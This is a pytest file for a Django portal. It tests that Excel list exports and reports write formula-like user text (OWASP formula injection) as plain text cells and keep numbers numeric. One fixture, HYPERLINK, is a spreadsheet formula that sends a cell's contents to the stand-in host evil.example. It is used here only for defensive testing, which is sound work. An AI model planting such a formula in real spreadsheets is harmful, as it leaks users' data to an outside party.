"""Excel exports never run what users typed: text that a spreadsheet would take for a formula (OWASP's
formula injection: a leading =, +, -, @, tab or carriage return) comes out as a text cell with the
original text, in every list export and report, while numbers stay numbers."""

import io
import re
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from contracts import services as contract_services
from imports.runner import problems_workbook
from ka_portal import excel
from tests.factories import KeyAccountFactory, SalesTargetFactory, StoreFactory
from tests.visits.factories import TaskFactory, VisitFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
# Text a spreadsheet would run, each starting with one of OWASP's trigger characters. A carriage return
# is read back from the file as a line feed (XML normalises line ends), so it is checked on its own.
FORMULAS = [HYPERLINK, "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1"]


def _sheet(response, index: int = 0):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[index]


def _cells_with(sheet, texts) -> dict:
    """{text: cell} for every cell whose value is one of `texts`."""
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if cell.value in texts:
                found[cell.value] = cell
    return found


def _assert_all_text(sheet, texts) -> None:
    found = _cells_with(sheet, texts)
    assert set(found) == set(texts), f"missing from the sheet: {set(texts) - set(found)}"
    for text, cell in found.items():
        assert cell.data_type == "s", f"{text!r} in {cell.coordinate} is a {cell.data_type!r} cell, not text"


def _save_and_load(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return openpyxl.load_workbook(buffer)


# --- the one place --------------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_written_as_text_and_numbers_stay_numbers(write_only):
    workbook = excel.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    texts = [*FORMULAS, "\r=1+1"]
    excel.append_row(sheet, texts)
    excel.append_row(sheet, [Decimal("-1500.25"), -3, -0.5, "plain", "a=b", "-"], formats={2: "0.00%"})

    loaded = _save_and_load(workbook)["s"]

    first, second = list(loaded.iter_rows())
    assert [cell.value for cell in first[:-1]] == FORMULAS
    assert first[-1].value.lstrip("\r\n") == "=1+1"  # the CR comes back as LF, still text
    assert all(cell.data_type == "s" for cell in first)
    assert [cell.data_type for cell in second[:3]] == ["n", "n", "n"]
    assert second[0].value == -1500.25 and second[1].value == -3
    assert second[0].number_format == excel.MONEY_FORMAT
    assert [cell.value for cell in second[3:6]] == ["plain", "a=b", "-"]
    assert all(cell.data_type == "s" for cell in second[3:6])


def test_the_import_problem_sheet_keeps_what_the_file_said_as_text():
    errors = [{"row": 2, "column": text, "message": text} for text in FORMULAS]

    sheet = _save_and_load(problems_workbook(errors)).worksheets[0]

    _assert_all_text(sheet, FORMULAS)
    assert {cell.data_type for cell in next(sheet.iter_cols(min_col=1, max_col=1, min_row=2))} == {"n"}


# --- list exports -----------------------------------------------------------------------------------


def test_store_export_writes_a_hyperlink_name_as_text(client, admin_user):
    StoreFactory(code="EVIL-1", name=HYPERLINK, address="=1+1", city="@SUM(A1)")
    client.force_login(admin_user)

    sheet = _sheet(client.get(reverse("stores:store-list"), {"export": "xlsx"}))

    _assert_all_text(sheet, [HYPERLINK, "=1+1", "@SUM(A1)"])


def test_visit_history_export_writes_problems_and_actions_as_text(client, admin_user):
    store = StoreFactory(name=HYPERLINK)
    for text in FORMULAS[1:]:
        VisitFactory(store=store, rep=admin_user, problems=text, actions=f"+{text}")
    client.force_login(admin_user)

    sheet = _sheet(client.get(reverse("visits:visit-list"), {"export": "xlsx"}))

    _assert_all_text(sheet, [*FORMULAS, *(f"+{text}" for text in FORMULAS[1:])])
    distance = sheet.cell(row=2, column=6)
    assert distance.value is None or distance.data_type == "n"


def test_task_export_writes_titles_and_comments_as_text(client, admin_user):
    store = StoreFactory(name=HYPERLINK)
    for text in FORMULAS[1:]:
        TaskFactory(store=store, title=text, done_comment=f"-{text}")
    client.force_login(admin_user)

    sheet = _sheet(client.get(reverse("visits:task-list"), {"export": "xlsx"}))

    _assert_all_text(sheet, [*FORMULAS, *(f"-{text}" for text in FORMULAS[1:])])
    due = sheet.cell(row=2, column=4)  # store, sales rep, title, due on
    assert due.is_date


# --- reports --------------------------------------------------------------------------------------


def test_performance_report_keeps_the_name_text_and_a_shortfall_a_number(client, admin_user):
    account = KeyAccountFactory(code="@EVIL", name=HYPERLINK)
    SalesTargetFactory(account=account, year=2026, month=1, amount=Decimal("10000.00"))
    client.force_login(admin_user)

    response = client.get(
        reverse("accounts:performance"), {"start": "2026-01", "end": "2026-01", "sort": "code", "export": "xlsx"}
    )

    sheet = _sheet(response)
    _assert_all_text(sheet, [HYPERLINK, "@EVIL"])
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "@EVIL")
    target, actual, difference = row[3], row[4], row[5]
    assert target.data_type == "n" and Decimal(str(target.value)) == Decimal("10000")
    assert difference.data_type == "n" and Decimal(str(difference.value)) == Decimal("-10000")
    assert actual.data_type == "n"


def test_statement_keeps_account_name_and_payment_reference_as_text(client, finance):
    account = KeyAccountFactory(code="EVIL", name="=1+1")
    today = timezone.localdate()
    contract_services.invoice_create(
        account=account, number="-1+2", date=today - timedelta(days=20), amount=Decimal("3000.00")
    )
    contract_services.payment_record(
        account=account, date=today - timedelta(days=5), amount=Decimal("1000.00"), reference=HYPERLINK
    )
    client.force_login(finance)
    params = {"account": account.code, "date_from": (today - timedelta(days=30)).isoformat(), "date_to": today}

    sheet = _sheet(client.get(reverse("contracts:statement"), {**params, "export": "xlsx"}))

    _assert_all_text(sheet, ["=1+1 (EVIL)", "-1+2", HYPERLINK])
    balances = [row[5] for row in sheet.iter_rows(min_row=6) if len(row) > 5 and row[5].value is not None]
    assert balances and all(cell.data_type == "n" for cell in balances)


def test_contract_ledger_export_keeps_a_formula_number_as_text(client, finance):
    from tests.contracts.factories import ContractFactory

    ContractFactory(number="=1+1", account=KeyAccountFactory(name="+86 21 5555"), valid_from=date(2026, 1, 1))
    client.force_login(finance)

    sheet = _sheet(client.get(reverse("contracts:contract-list"), {"export": "xlsx"}))

    _assert_all_text(sheet, ["=1+1", "+86 21 5555"])


# --- nobody else writes cells -----------------------------------------------------------------------

_APPS = ["accounts", "stores", "visits", "promotions", "contracts", "ka_portal"]
# Making a workbook or a cell, or putting values in a sheet, anywhere but ka_portal/excel.py.
_WRITES = re.compile(
    r"from openpyxl import .*Workbook\b|openpyxl\.Workbook\(|WriteOnlyCell|\bsheet\.append\(|\.cell\(.*value="
    r"|sheet\[[^\]]+\]\.value\s*="
)


def test_no_module_but_excel_py_writes_cells():
    root = Path(settings.BASE_DIR)
    offenders = []
    for app in _APPS:
        for path in (root / app).rglob("*.py"):
            if path == root / "ka_portal" / "excel.py" or "migrations" in path.parts:
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if _WRITES.search(line):
                    offenders.append(f"{path.relative_to(root)}:{number}: {line.strip()}")
    assert offenders == [], "write cells through ka_portal/excel.py:\n" + "\n".join(offenders)
